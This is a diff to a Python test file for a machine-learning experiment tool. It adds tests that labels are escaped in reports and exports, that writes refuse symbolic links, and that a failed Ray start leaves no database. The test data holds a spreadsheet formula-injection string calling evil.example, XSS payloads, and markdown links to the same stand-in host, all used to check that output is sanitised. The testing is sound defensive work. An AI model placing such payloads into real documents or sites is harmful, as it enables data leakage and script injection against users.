@@ -8,6 +8,7 @@ import csv
 import io
 import json
 import os
+import re
 import signal
 import socket
 import sqlite3
@@ -107,8 +108,16 @@ def test_no_report_file_is_written_through_a_link_in_the_folder(made, tmp_path, 
 
 
 # -- labels and names are text everywhere ------------------------------------------------------------------
-NASTY = ["$x^$", '=HYPERLINK("http://evil.example/?"&A1)', "<img src=x onerror=alert(1)>"]
-NOTES = "<script>alert(1)</script> and <svg onload=alert(2)>; a <= b stays"
+NASTY = [
+    "$x^$",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "<img src=x onerror=alert(1)>",
+    "[click](http://evil.example/a) ![t](http://evil.example/t.png)",
+]
+NOTES = (
+    "<script>alert(1)</script> and <svg onload=alert(2)>; a <= b stays; [here](http://evil.example/n)\n\n"
+    "[ref]: http://evil.example/r"
+)
 
 
 def _nasty_study(folder: Path) -> Path:
@@ -157,6 +166,10 @@ def test_labels_are_plain_text_in_plots_reports_and_exports(nasty, tmp_path, cap
     for raw in ("<script", "<img", "<svg"):
         assert raw not in md
     assert "&lt;script>" in md and "a <= b stays" in md and "$x^$" in md
+    # no link or image of theirs: every '](' left is one of the report's figures, every definition escaped
+    assert "evil.example" in md
+    assert re.findall(r"(?<!\\)\]\((?!s/)", md) == []
+    assert "\\[ref]: http" in md and "[click\\](http" in md and "![t\\](http" in md
     html = (out / "s.html").read_text()
     assert "<script>alert" not in html and "<img src=x" not in html
     assert _formula_cells((out / "s.csv").read_text()) == []
@@ -506,6 +519,67 @@ def test_a_checkpoint_folder_that_is_a_link_is_not_followed(tmp_path, capsys):
     assert json.loads(capsys.readouterr().out)["status"] == "complete"
 
 
+@pytest.mark.parametrize(
+    "what",
+    ["runs export", "plot", "plot (default folder)", "construct", "spectrum", "export-tasks", "scorecard"],
+)
+def test_no_single_file_output_is_written_through_a_link(copy, tmp_path, capsys, what):  # noqa: F811
+    """Every command that writes a file the user names (or files into a folder the user names) refuses a
+    link where it would write, and leaves the link's target as it was."""
+    db, _ = copy
+    victim = tmp_path / "victim"
+    victim.write_text("precious\n")
+    ckpt = next(db.parent.glob("r.checkpoints/*.safetensors"))
+    out = tmp_path / "out"
+    out.mkdir()
+    argv, link = {
+        "runs export": (["runs", "export", "--db", str(db), "--out", str(out / "x.csv")], out / "x.csv"),
+        "plot": (["plot", "1", "--db", str(db), "--out", str(out / "x.png")], out / "x.png"),
+        "plot (default folder)": (["plot", "1", "--db", str(db)], db.parent / "plots"),
+        "construct": (
+            ["construct", "parity-negmamba", "--out", str(out / "c.safetensors")],
+            out / "c.safetensors",
+        ),
+        "spectrum": (["spectrum", str(ckpt), "--out", str(out / "s.png")], out / "s.png"),
+        "export-tasks": (
+            ["export-tasks", "--tasks", "parity", "--lengths", "8", "--n", "4", "--out", str(out)],
+            out / "statetrack.yaml",
+        ),
+        "scorecard": (
+            [
+                "scorecard",
+                "rnn",
+                "--steps",
+                "1",
+                "--seeds",
+                "1",
+                "--test-lengths",
+                "8",
+                "--workers",
+                "1",
+                "--db",
+                str(tmp_path / "s.db"),
+                "--out",
+                str(out),
+            ],
+            out / "scorecard-rnn.md",
+        ),
+    }[what]
+    if link.name == "plots":
+        victim = tmp_path / "victim-folder"
+        victim.mkdir()
+    link.symlink_to(victim, target_is_directory=victim.is_dir())
+    code = main(argv)
+    err = capsys.readouterr().err
+    assert "Traceback" not in err, err
+    if what == "scorecard" and code != 2:
+        pytest.skip(f"scorecard did not reach its files: {err.splitlines()[-1:]}")
+    assert code == 2, err
+    assert "symbolic link" in err, err
+    assert link.is_symlink()
+    assert (list(victim.iterdir()) == []) if victim.is_dir() else victim.read_text() == "precious\n"
+
+
 def test_tensorboard_logs_are_not_written_through_a_link(tmp_path, capsys):
     pytest.importorskip("tensorboard")
     victim, tb = tmp_path / "victim", tmp_path / "tb"
@@ -545,6 +619,23 @@ def test_a_cluster_ray_cannot_join_leaves_no_database(tmp_path, capsys, monkeypa
         )
     finally:
         server.stop(0)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.yaml"]
+
+
+def test_a_local_ray_that_cannot_start_leaves_no_database(tmp_path, capsys, monkeypatch):
+    """Without --address, a new database is created only once the local Ray instance has started (its
+    failure simulated: ray.init raises as it does when no instance can be started here)."""
+    ray = pytest.importorskip("ray")
+
+    def refuse(**kw):
+        raise RuntimeError("Failed to start the local Ray instance.\nmore")
+
+    monkeypatch.setattr(ray, "init", refuse)
+    monkeypatch.setattr(ray, "is_initialized", lambda: False)
+    study = tmp_path / "s.yaml"
+    study.write_text(rnn_study_text())
+    argv = ["sweep", str(study), "--db", str(tmp_path / "x.db"), "--executor", "ray"]
+    _one_line(capsys, argv, "Ray could not start", "Failed to start the local Ray instance")
     assert sorted(p.name for p in tmp_path.iterdir()) == ["s.yaml"]
 
 
